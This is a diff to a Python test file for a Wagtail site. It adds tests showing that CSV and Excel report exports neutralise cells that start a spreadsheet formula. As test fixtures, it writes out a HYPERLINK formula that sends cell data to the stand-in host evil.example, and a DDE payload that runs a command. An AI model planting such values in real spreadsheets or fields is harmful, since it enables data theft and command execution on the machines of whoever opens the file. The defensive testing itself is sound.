@@ -1,6 +1,9 @@
 """Security settings and behaviour (README.md, Security): production checks, headers, cookies,
-sign-in lockout, uploads, document downloads, escaping of what staff enter."""
+sign-in lockout, uploads, document downloads, escaping of what staff enter, CSV downloads
+without formulas."""
 
+import csv
+import io
 import os
 import re
 import resource
@@ -23,7 +26,7 @@ from wagtail.images.models import Image
 from wagtail.models import Collection, CollectionViewRestriction
 from wagtail.rich_text import RichText
 
-from ciso.models import StandardPage
+from ciso.models import HomePage, StandardPage
 from ciso.security import CSPMiddleware, client_ip
 from history.models import HistoryPage
 from projects.models import ProjectPage
@@ -498,3 +501,63 @@ def test_rich_text_intro_is_cleaned_too(client, html):
     doc = html(response)
     assert "Depuis 1975" in doc.find(class_="lead").get_text()
     assert not doc.find_all("img", onerror=True)
+
+
+# --- Spreadsheets --------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Ouvrir")'
+
+
+def csv_rows(response):
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(content)))
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+33 1 23", "'+33 1 23"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Coopération", "Coopération"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (42, 42),
+    ],
+)
+def test_spreadsheet_cells_never_start_a_formula(value, expected):
+    from ciso.security import spreadsheet_text
+
+    assert spreadsheet_text(value) == expected
+
+
+def test_translation_report_csv_does_not_run_a_formula_in_a_title(staff_client):
+    # A draft page, not yet translated: listed under its French title.
+    HomePage.objects.get().add_child(
+        instance=StandardPage(title_fr=HYPERLINK, slug_fr="piege", live=False)
+    )
+    rows = csv_rows(staff_client.get("/admin/reports/translations/?export=csv"))
+    titles = [row[0] for row in rows[1:]]
+    assert "'" + HYPERLINK in titles
+    assert HYPERLINK not in titles
+    # The Excel file keeps the title as it is, in a text cell (Wagtail's own rule).
+    response = staff_client.get("/admin/reports/translations/?export=xlsx")
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [cell for cell in sheet["A"] if cell.value == HYPERLINK]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+
+
+def test_wagtail_reports_csv_does_not_run_a_formula_either(staff_client, django_user_model):
+    page = StandardPage.objects.get(slug_fr="rqic")
+    page.title = "@SUM(1+1)*cmd|' /C calc'!A0"
+    page.locked = True
+    page.locked_by = django_user_model.objects.get(username="staff")
+    page.save()
+    rows = csv_rows(staff_client.get("/admin/reports/locked/?export=csv"))
+    assert [row[0] for row in rows[1:] if "SUM" in row[0]] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
